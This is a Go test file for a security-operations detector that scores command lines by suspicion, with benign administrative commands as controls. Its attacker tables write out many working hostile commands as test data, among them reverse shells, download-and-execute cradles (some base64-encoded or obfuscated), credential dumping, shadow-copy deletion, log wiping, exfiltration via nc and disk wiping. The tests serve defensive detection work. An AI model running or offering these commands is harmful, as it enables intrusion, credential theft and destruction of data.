package check_test

import (
	"encoding/base64"
	"testing"
	"unicode/utf16"

	"github.com/seed-959697dd/soc/alert"
	"github.com/seed-959697dd/soc/internal/check"
	"github.com/seed-959697dd/soc/triage"
)

// encoded is what PowerShell's -EncodedCommand wants.
func encoded(s string) string {
	var b []byte
	for _, u := range utf16.Encode([]rune(s)) {
		b = append(b, byte(u), byte(u>>8))
	}
	return base64.StdEncoding.EncodeToString(b)
}

func command(line string) *alert.Alert {
	return with(alert.EntitySlot(alert.Actor, alert.Command), line)
}

func TestCommandsOfAttackers(t *testing.T) {
	t.Parallel()
	least := map[string]map[string]int32{
		"Windows": {
			`certutil.exe -urlcache -split -f http://203.0.113.7/a.exe C:\Users\Public\a.exe`:                    2300,
			`C:\Windows\system32\certutil.exe  -decode in.txt out.exe`:                                           1000,
			`bitsadmin /transfer job /download /priority high http://198.51.100.3/x c:\x.exe`:                    1500,
			`mshta http://example.com/a.hta`:                                                                     2300,
			`rundll32.exe javascript:"\..\mshtml,RunHTMLApplication ";alert(1)`:                                  3000,
			`rundll32.exe C:\windows\System32\comsvcs.dll, MiniDump 624 C:\temp\lsass.dmp full`:                  3500,
			`rundll32 C:\Users\bob\AppData\Local\Temp\abc.dll,Start`:                                             1400,
			`regsvr32 /s /n /u /i:http://example.com/file.sct scrobj.dll`:                                        2600,
			`msiexec /q /i http://198.51.100.9/pkg.msi`:                                                          1500,
			`wmic process call create "calc.exe"`:                                                                1500,
			`wmic os get /format:"http://example.com/evil.xsl"`:                                                  2300,
			`schtasks /create /tn upd /tr "powershell -w hidden -f C:\Users\Public\u.ps1" /sc minute`:            1400,
			`sc.exe create svc binPath= "cmd /c powershell -enc AAAA" start= auto`:                               2200,
			`reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v upd /d C:\Users\Public\a.exe`:         1200,
			`reg add "HKLM\...\Image File Execution Options\sethc.exe" /v Debugger /d cmd.exe`:                   2200,
			`REG ADD HKLM\SYSTEM\CurrentControlSet\Control\SecurityProviders\WDigest /v UseLogonCredential /d 1`: 2400,
			`net user helpdesk2 Passw0rd! /add`:                                                                  800,
			`net  localgroup Administrators helpdesk2 /add`:                                                      1400,
			`net1 group "Domain Admins" eve /add /domain`:                                                        1900,
			`vssadmin.exe Delete Shadows /All /Quiet`:                                                            3000,
			`wmic shadowcopy delete`:                                                                             3000,
			`bcdedit /set {default} recoveryenabled No`:                                                          2500,
			`wbadmin delete catalog -quiet`:                                                                      2500,
			`fsutil usn deletejournal /D C:`:                                                                     2300,
			`wevtutil cl Security`:                                                                               2300,
			`powershell Set-MpPreference -DisableRealtimeMonitoring $true`:                                       2300,
			`powershell Add-MpPreference -ExclusionPath C:\`:                                                     1700,
			`sc stop WinDefend`:                           2200,
			`taskkill /f /im MsMpEng.exe`:                 2200,
			`netsh advfirewall set allprofiles state off`: 1800,
			`netsh interface portproxy add v4tov4 listenport=8080 connectaddress=10.1.1.1`:                                  1800,
			`netsh wlan show profile name=x key=clear`:                                                                      1700,
			`procdump64.exe -accepteula -ma lsass.exe out.dmp`:                                                              3400,
			`reg.exe save hklm\sam C:\temp\s`:                                                                               3000,
			`ntdsutil "ac i ntds" "ifm" "create full c:\temp" q q`:                                                          2800,
			`mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit`:                                               3700,
			`cmd.exe /Q /c whoami 1> \\127.0.0.1\ADMIN$\__1700000000.12 2>&1`:                                               3300,
			`cmd.exe /c echo abcdef > \\.\pipe\abcdef`:                                                                      3000,
			`psexec.exe \\srv01 -s cmd.exe`:                                                                                 1200,
			`AdFind.exe -f objectcategory=computer`:                                                                         1400,
			`nltest /domain_trusts /all_trusts`:                                                                             1000,
			`cmd /c whoami & ipconfig /all & net user & tasklist`:                                                           1400,
			`powershell -nop -w hidden -ep bypass -c "IEX (New-Object Net.WebClient).DownloadString('http://e.example/a')"`: 3000,
			`powershell.exe -e ` + encoded(`IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.4/a')`):         2800,
			`powershell -enc ` + encoded(`Invoke-Mimikatz -DumpCreds`):                                                      2800,
			`c^e^r^t^u^t^i^l -u^r^l^c^a^c^h^e -f http://203.0.113.7/a`:                                                      2300,
			"powershell i`e`x (n`ew-ob`ject net.webclient).('Down'+'loadString')('http://203.0.113.7/a')":                   2300,
			`powershell -c "&('{1}{0}' -f 'mikatz','Invoke-Mi')"`:                                                           2500,
			`powershell -c [char]73+[char]110+[char]118+[char]111+[char]107+[char]101+[char]45+[char]77+[char]105+[char]109+[char]105+[char]107+[char]97+[char]116+[char]122`: 2500,
		},
		"Unix": {
			`bash -i >& /dev/tcp/203.0.113.5/4444 0>&1`:                                                                           3000,
			`nc -e /bin/sh 203.0.113.5 4444`:                                                                                      3000,
			`rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.5 4444 >/tmp/f`:                                      3000,
			`python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect(("203.0.113.5",1));os.dup2(0,0)'`:                3000,
			`perl -e 'use Socket;exec("/bin/sh -i");'`:                                                                            3000,
			`php -r '$sock=fsockopen("203.0.113.5",1);exec("/bin/sh -i <&3");'`:                                                   3000,
			`socat exec:'bash -li',pty tcp:203.0.113.5:4444`:                                                                      2800,
			`curl -fsSL http://203.0.113.5/x.sh | bash`:                                                                           1600,
			`bash -c "$(wget -qO- https://example.com/x)"`:                                                                        1400,
			`cd /tmp || cd /var/run; wget http://203.0.113.5/m.sh; chmod 777 m.sh; ./m.sh`:                                        2800,
			`chmod +x /tmp/update`:                                                                                                1400,
			`/dev/shm/kworker -c pool`:                                                                                            900,
			`echo aGVsbG8gd29ybGQgaGVsbG8= | base64 -d | bash`:                                                                    2700,
			`echo ` + base64.StdEncoding.EncodeToString([]byte("bash -i >& /dev/tcp/203.0.113.5/443 0>&1")) + ` | base64 -d | sh`: 4000,
			`echo "* * * * * /tmp/a" | crontab -`:                                                                                 2000,
			`echo ssh-rsa AAAA x >> /home/web/.ssh/authorized_keys`:                                                               2200,
			`/usr/bin/cat /etc/shadow`:                                                                                            1900,
			`useradd -o -u 0 -g 0 toor`:                                                                                           2800,
			`echo 'web ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers`:                                                                  2800,
			`chmod u+s /bin/bash`:                                                                                                 2900,
			`echo /tmp/lib.so > /etc/ld.so.preload`:                                                                               2300,
			`insmod rk.ko`:                                                                                                        1300,
			`history -c && rm -rf ~/.bash_history`:                                                                                2000,
			`rm -rf /var/log/auth.log`:                                                                                            2300,
			`iptables -F`:                                                                                                         1500,
			`setenforce 0`:                                                                                                        1600,
			`systemctl stop falcon-sensor`:                                                                                        2200,
			`./xmrig -o stratum+tcp://pool.example:3333 -u x`:                                                                     2200,
			`docker run -v /:/host --rm -it alpine chroot /host`:                                                                  2500,
			`nsenter -t 1 -m -u -i -n sh`:                                                                                         2500,
			`kubectl get secrets -A -o yaml`:                                                                                      1200,
			`./linpeas.sh -a`:                                                                                                     3000,
			`hydra -l root -P list ssh://10.0.0.1`:                                                                                2200,
			`ssh -fN -R 8080:localhost:22 u@203.0.113.5`:                                                                          2000,
			`find / -perm -4000 -type f`:                                                                                          1400,
			`tar czf - /etc | nc 203.0.113.5 80`:                                                                                  2200,
			`dd if=/dev/zero of=/dev/sda bs=1M`:                                                                                   2300,
			`curl http://169.254.169.254/latest/meta-data/iam/security-credentials/role`:                                          2000,
			`sudo vim -c ':!/bin/sh'`:                                                                                             2200,
			`osascript -e 'display dialog "Enter password" default answer "" with hidden answer'`:                                 2000,
		},
	}
	for system, lines := range least {
		rows := map[string]weighed{}
		for line, w := range lines {
			rows[line] = weighed{w, command(line)}
		}
		t.Run(system, func(t *testing.T) { weighs(t, check.Commands(), rows) })
	}
}

func TestCommandsOfEveryDay(t *testing.T) {
	t.Parallel()
	rows := map[string]weighed{}
	for _, line := range []string{
		`C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule`,
		`"C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer --field-trial-handle=1824,i,1432,2 --lang=en-US`,
		`"C:\Program Files (x86)\Microsoft\EdgeUpdate\MicrosoftEdgeUpdate.exe" /ua /installsource scheduler`,
		`C:\Windows\System32\usoclient.exe StartScan`,
		`C:\Windows\servicing\TrustedInstaller.exe`,
		`C:\Windows\System32\wuauclt.exe /UpdateDeploymentProvider UpdateDeploymentProvider.dll /ClassId 1 /RunHandlerComServer`,
		`rundll32.exe C:\WINDOWS\system32\PcaSvc.dll,PcaPatchSdbTask`,
		`C:\Windows\System32\rundll32.exe C:\Windows\System32\shell32.dll,Control_RunDLL inetcpl.cpl`,
		`"C:\Windows\System32\msiexec.exe" /i "C:\Users\bob\Downloads\setup.msi"`,
		`C:\Windows\system32\msiexec.exe /V`,
		`regsvr32.exe /s "C:\Program Files\Vendor\shell.dll"`,
		`"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.2301.6-0\MpCmdRun.exe" SignatureUpdate -ScheduleJob -RestrictPrivileges`,
		`"C:\Program Files\Windows Defender\MpCmdRun.exe" Scan -ScheduleJob -ScanTrigger 55`,
		`C:\Windows\system32\cmd.exe /c "C:\Program Files\Backup\nightly.bat"`,
		`forfiles /p D:\logs /m *.log /d -30 /c "cmd /c del @path"`,
		`powershell.exe -File "C:\Program Files\Monitoring\disk.ps1"`,
		`powershell -NoProfile -Command "Get-Service | Where-Object Status -eq Running"`,
		`powershell.exe -NonInteractive Get-WmiObject Win32_LogicalDisk`,
		`net stop spooler`,
		`net use H: \\files\home`,
		`sc query wuauserv`,
		`sc start BITS`,
		`ping -n 4 10.0.0.1`,
		`nslookup www.example.com`,
		`robocopy D:\data E:\data /mir`,
		`gpupdate /force`,
		`wmic os get caption`,
		`schtasks /query /fo csv`,
		`reg query "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion"`,
		`taskkill /im notepad.exe`,
		`"C:\Windows\system32\wscript.exe" "C:\Program Files\Vendor\logon.vbs"`,
		`C:\Windows\Microsoft.NET\Framework64\v4.0.30319\ngen.exe install System.Web`,
		`"C:\Program Files\7-Zip\7zFM.exe" "C:\Users\bob\Downloads\report.zip"`,
		`"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "C:\Users\bob\Documents\net results.docx"`,
		`/usr/sbin/cron -f`,
		`/bin/sh -c test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }`,
		`/usr/sbin/sshd -D -R`,
		`sshd: alice [priv]`,
		`/usr/lib/systemd/systemd-logind`,
		`/usr/bin/apt-get update`,
		`/usr/bin/apt-get -y install nginx`,
		`yum -y update`,
		`dpkg --configure -a`,
		`/usr/bin/python3 /usr/bin/unattended-upgrade`,
		`systemctl restart nginx`,
		`systemctl status auditd`,
		`/usr/bin/systemctl reload rsyslog.service`,
		`tail -f /var/log/syslog`,
		`/usr/sbin/logrotate /etc/logrotate.conf`,
		`grep -r listen /etc/nginx`,
		`tar czf /backup/home.tgz /home`,
		`rsync -a /srv/ backup@10.0.0.5:/srv/`,
		`chmod 644 /etc/nginx/nginx.conf`,
		`chown www-data:www-data /var/www/html`,
		`/var/ossec/bin/wazuh-control status`,
		`curl -s https://example.com/health`,
		`wget -q https://example.com/package.deb`,
		`docker ps -a`,
		`docker run --rm -p 8080:80 nginx`,
		`kubectl get pods -n web`,
		`git pull origin main`,
		`npm run build`,
		`node /app/server.js`,
		`java -jar /opt/app/app.jar`,
		`ssh admin@10.0.0.7`,
		`crontab -e`,
		`vi /etc/hosts`,
		`ls -la /tmp`,
		`mysqldump --single-transaction shop`,
		`/bin/su -`,
		`/usr/bin/su root`,
		`psql -c "select 1"`,
		`find /var/www -name "*.php" -mtime -1`,
		`mount /dev/sdb1 /mnt/backup`,
		`/usr/bin/timeout 14s /usr/local/bin/check_disk`,
		`ntpdate pool.example.org`,
		`echo ok`,
		`sudo -u postgres pg_dump shop`,
		`iptables -L -n`,
		`sed -n s/foo/bar/p file`,
		`/usr/libexec/trustd --agent`,
		`/sbin/launchd`,
		`"C:\Program Files\Zabbix Agent\zabbix_agentd.exe" --config zabbix.conf`,
		`"C:\Program Files\SplunkUniversalForwarder\bin\splunkd.exe" service`,
		`C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding`,
		`C:\Windows\system32\DllHost.exe /Processid:{3AD05575-8857-4850-9277-11B85BDB8E09}`,
		`taskhostw.exe KEYROAMING`,
		`sihost.exe`,
		`"C:\Program Files\Git\bin\git.exe" fetch --all`,
		`wevtutil qe System /c:5`,
		`vssadmin list writers`,
	} {
		rows[line] = weighed{0, command(line)}
	}
	weighs(t, check.Commands(), rows)
}

func TestCommandsInMessages(t *testing.T) {
	t.Parallel()
	weighs(t, check.Commands(), map[string]weighed{
		"sudo reading the password hashes": {1800, with(alert.SlotMessage, "sudo: bob : TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/usr/bin/cat /etc/shadow")},
		"sudo restarting a service":        {0, with(alert.SlotMessage, "sudo: bob : TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/usr/bin/systemctl restart nginx")},
		"a message that names a tool":      {0, with(alert.SlotMessage, "Rules that detect mimikatz were updated")},
		"the same command in two slots":    {0, with(alert.EntitySlot(alert.Actor, alert.Command), "cmd /c dir", alert.SlotParentCommand, "cmd /c dir")},
	})
	twice := with(alert.EntitySlot(alert.Actor, alert.Command), "vssadmin delete shadows", alert.SlotParentCommand, "cmd /c vssadmin delete shadows")
	if got := run(t, check.Commands(), twice); len(got) != 1 {
		t.Errorf("%d signals for one thing seen twice, want 1", len(got))
	}
}

func BenchmarkCommands(b *testing.B) {
	c := check.Commands()
	a := command(`"C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer --field-trial-handle=1824,i,1432,2 --lang=en-US`)
	b.ReportAllocs()
	for b.Loop() {
		c.Check(a, func(s triage.Signal) { b.Fatal(s.Sentence) })
	}
}

// The passwords lie in the hives themselves; Windows' own scripts export other keys below SYSTEM.
func TestOnlyTheHivesHoldPasswords(t *testing.T) {
	t.Parallel()
	rows := map[string]weighed{}
	for _, line := range []string{
		`reg save HKLM\SAM sam.hiv`, `reg.exe save "HKLM\SECURITY" C:\x\s`, `reg export HKEY_LOCAL_MACHINE\SYSTEM\ C:\x\s.reg /y`,
		`REG SAVE 'hklm\system' s`, `cmd /c reg save hklm\sam`, `reg save \\srv-1\HKLM\SAM s`, `reg save hklm\security\policy\secrets s`,
		`reg export "HKLM\SAM\SAM\Domains\Account\Users" u.reg`,
	} {
		rows[line] = weighed{3000, command(line)}
	}
	weighs(t, check.Commands(), rows)
	clear(rows)
	for _, line := range []string{
		`reg export "HKLM\SYSTEM\CurrentControlSet\Control\Winlogon\Notifications" Reg\Notif.reg.txt /y`,
		`reg export HKLM\SYSTEM\CurrentControlSet\Services\Tcpip t.reg`, `reg save "HKLM\SYSTEM\Setup" s.hiv`, `reg export HKLM\Security-Vendor v.reg`,
		`reg export HKLM\SOFTWARE\SYSTEM s.reg`, `reg query HKLM\SAM`,
	} {
		rows[line] = weighed{900, command(line)}
	}
	atMost(t, check.Commands(), rows)
}
